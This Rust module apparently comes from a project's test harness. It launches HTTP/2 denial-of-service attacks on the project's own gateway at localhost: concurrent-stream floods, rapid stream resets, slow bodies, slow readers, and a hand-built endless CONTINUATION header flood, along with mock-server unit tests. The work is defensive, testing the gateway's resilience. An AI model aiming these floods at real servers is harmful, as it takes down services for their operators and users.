//! Attacks over HTTP/2, on the gateway's port with TLS (`scripts/up --tls`).

use std::io;
use std::sync::{Arc, LazyLock};
use std::time::Duration;

use actix_web::web::Bytes;
use futures_util::StreamExt as _;
use futures_util::future::{join_all, select_all};
use futures_util::stream::FuturesUnordered;
use h2::client::{ResponseFuture, SendRequest};
use h2::{RecvStream, SendStream};
use http::{Request, Response};
use tokio::io::{AsyncRead, AsyncWrite, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::timeout;
use tokio_rustls::TlsConnector;
use tokio_rustls::rustls::pki_types::pem::PemObject as _;
use tokio_rustls::rustls::pki_types::{CertificateDer, ServerName};
use tokio_rustls::rustls::{ClientConfig, RootCertStore};

use super::{Attempts, HELD, REFUSALS, UNREAD, stays_open};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Kind {
    /// As many requests at a time as the gateway allows, again and again.
    Streams,
    /// Requests that are taken back as soon as they are sent.
    Resets,
    SlowBodies,
    SlowReaders,
    /// Heads that do not end.
    Heads,
}

/// Concurrent requests of one connection.
const STREAMS: usize = 100;
/// Requests that are taken back before the attack counts.
const RESETS: usize = 50;
const PAUSE: Duration = Duration::from_millis(100);

/// Believes the authority that `scripts/up --tls` has made.
static CONNECTOR: LazyLock<TlsConnector> = LazyLock::new(|| {
    let mut roots = RootCertStore::empty();
    let authority = CertificateDer::from_pem_file(".secrets/client-tls/ca.crt");
    authority.into_iter().for_each(|authority| roots.add(authority).unwrap_or_default());
    let mut config = ClientConfig::builder().with_root_certificates(roots).with_no_client_auth();
    config.alpn_protocols = vec![b"h2".to_vec()];
    Arc::new(config).into()
});

pub(super) async fn attack(kind: Kind, stream: TcpStream, attempts: &Attempts) -> io::Result<()> {
    let name = ServerName::try_from("localhost").map_err(io::Error::other)?;
    over(kind, CONNECTOR.connect(name, stream).await?, attempts).await
}

async fn over<T: AsyncRead + AsyncWrite + Unpin>(
    kind: Kind,
    stream: T,
    attempts: &Attempts,
) -> io::Result<()> {
    if kind == Kind::Heads {
        return endless_head(stream, attempts).await;
    }
    let (client, connection) = h2::client::handshake(stream).await.map_err(io::Error::other)?;
    let mut connection = std::pin::pin!(connection);
    let unread = tokio::select! {
        _ = &mut connection => return Ok(()),
        attacked = send(kind, client, attempts) => attacked.map_err(io::Error::other)?,
    };
    // Nobody reads the connection now.
    if !unread.is_empty() {
        tokio::time::sleep(UNREAD).await;
    }
    Ok(())
}

/// Returns the responses that are left unread.
async fn send(
    kind: Kind,
    mut client: SendRequest<Bytes>,
    attempts: &Attempts,
) -> Result<Vec<Response<RecvStream>>, h2::Error> {
    match kind {
        Kind::Streams => {
            let mut is_first = true;
            loop {
                let (responses, _) = open(&mut client, get("/api/products"), true).await?;
                for response in join_all(responses).await {
                    let is_through = !REFUSALS.contains(&response?.status().as_u16());
                    attempts.got_through(is_through && std::mem::take(&mut is_first));
                }
                tokio::time::sleep(PAUSE).await;
            }
        }
        Kind::Resets => {
            for number in 1.. {
                client = client.ready().await?;
                // Dropping the response resets its stream.
                drop(client.send_request(get("/api/products"), true)?);
                tokio::task::yield_now().await;
                attempts.got_through(number == RESETS);
            }
            Ok(Vec::new())
        }
        Kind::SlowBodies => {
            let post = Request::post("https://localhost/api/users")
                .header("content-type", "application/json")
                .header("content-length", 65_536);
            let (responses, bodies) = open(&mut client, post.body(()).unwrap_or_default(), false).await?;
            for mut body in bodies {
                body.send_data(Bytes::from_static(&[b' '; 1000]), false)?;
            }
            let mut responses: FuturesUnordered<_> = responses.into_iter().collect();
            let mut answered = Vec::new();
            // The gateway answers those that it refuses, and waits for the bodies of the others.
            let all = async {
                while let Some(response) = responses.next().await {
                    answered.extend(response)
                }
            };
            let holds_one = timeout(HELD, all).await.is_err();
            attempts.got_through(holds_one);
            answered.extend(responses.next().await.into_iter().flatten());
            Ok(answered)
        }
        Kind::SlowReaders | Kind::Heads => {
            let (responses, _) = open(&mut client, get("/docs/swagger-ui-bundle.js"), true).await?;
            let (first, _, _) = select_all(responses).await;
            let first = first?;
            attempts.got_through(first.status() == 200);
            Ok(vec![first])
        }
    }
}

fn get(path: &str) -> Request<()> {
    Request::get(format!("https://localhost{path}")).body(()).unwrap_or_default()
}

/// Sends the request as often as the gateway allows at a time.
async fn open(
    client: &mut SendRequest<Bytes>,
    request: Request<()>,
    is_whole: bool,
) -> Result<(Vec<ResponseFuture>, Vec<SendStream<Bytes>>), h2::Error> {
    let mut streams = (Vec::new(), Vec::new());
    for _ in 0..STREAMS {
        *client = client.clone().ready().await?;
        let (response, body) = client.send_request(request.clone(), is_whole)?;
        streams.0.push(response);
        streams.1.push(body);
    }
    Ok(streams)
}

/// A head of which part after part comes, and no end (RFC 9113 §6.10).
async fn endless_head<T: AsyncRead + AsyncWrite + Unpin>(
    mut stream: T,
    attempts: &Attempts,
) -> io::Result<()> {
    const SETTINGS: u8 = 4;
    const HEADERS: u8 = 1;
    const CONTINUATION: u8 = 9;
    let frame = |kind: u8, stream: u8, payload: &[u8]| {
        let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
        [&length[1..], &[kind, 0, 0, 0, 0, stream], payload].concat()
    };
    // One header, by its name and value, and not to be remembered (RFC 7541 §6.2.2).
    let field = [&[0, 1, b'x', 127, 233, 6][..], &[b'a'; 1000]].concat();
    stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
    stream.write_all(&frame(SETTINGS, 0, &[])).await?;
    stream.write_all(&frame(HEADERS, 1, &field)).await?;
    stream.flush().await?;
    attempts.got_through(stays_open(&mut stream).await);
    loop {
        stream.write_all(&frame(CONTINUATION, 1, &field)).await?;
        stream.flush().await?;
        tokio::time::sleep(PAUSE).await;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Responds to each request with `status`, or never. After `most` requests, it closes the connection.
    async fn serve(stream: impl AsyncRead + AsyncWrite + Unpin, status: Option<u16>, most: usize) {
        let mut connection = h2::server::handshake(stream).await.unwrap();
        let mut unanswered = Vec::new();
        for _ in 0..most {
            let Some(Ok((_, mut respond))) = connection.accept().await else { return };
            match status {
                Some(status) => {
                    let head = Response::builder().status(status).body(()).unwrap();
                    // The client may have taken it back.
                    let _ = respond.send_response(head, true);
                }
                None => unanswered.push(respond),
            }
        }
    }

    async fn through(kind: Kind, status: Option<u16>, most: usize) -> u32 {
        let (client, server) = tokio::io::duplex(1024 * 1024);
        let attempts = Attempts::default();
        let attacking = async { over(kind, client, &attempts).await.unwrap_or_default() };
        tokio::select! {
            ((), ()) = futures_util::future::join(attacking, serve(server, status, most)) => {}
            () = tokio::time::sleep(2 * HELD) => {}
        }
        attempts.through.get()
    }

    #[actix_web::test]
    async fn an_attack_gets_through_to_a_server_that_does_what_it_is_asked() {
        for (kind, status) in [
            (Kind::Streams, Some(200)),
            (Kind::Resets, Some(200)),
            (Kind::SlowBodies, None),
            (Kind::SlowReaders, Some(200)),
        ] {
            assert_eq!(through(kind, status, 10_000).await, 1, "{kind:?}");
        }
        // Nothing is accepted before the head is whole.
        assert_eq!(through(Kind::Heads, None, 1).await, 1);
    }

    #[actix_web::test]
    async fn what_is_refused_or_disconnected_did_not_get_through() {
        for kind in [Kind::Streams, Kind::SlowBodies, Kind::SlowReaders] {
            assert_eq!(through(kind, Some(503), 10_000).await, 0, "{kind:?}");
        }
        for kind in [Kind::Streams, Kind::Resets, Kind::SlowBodies, Kind::SlowReaders, Kind::Heads] {
            assert_eq!(through(kind, Some(200), 0).await, 0, "{kind:?}");
        }
    }
}
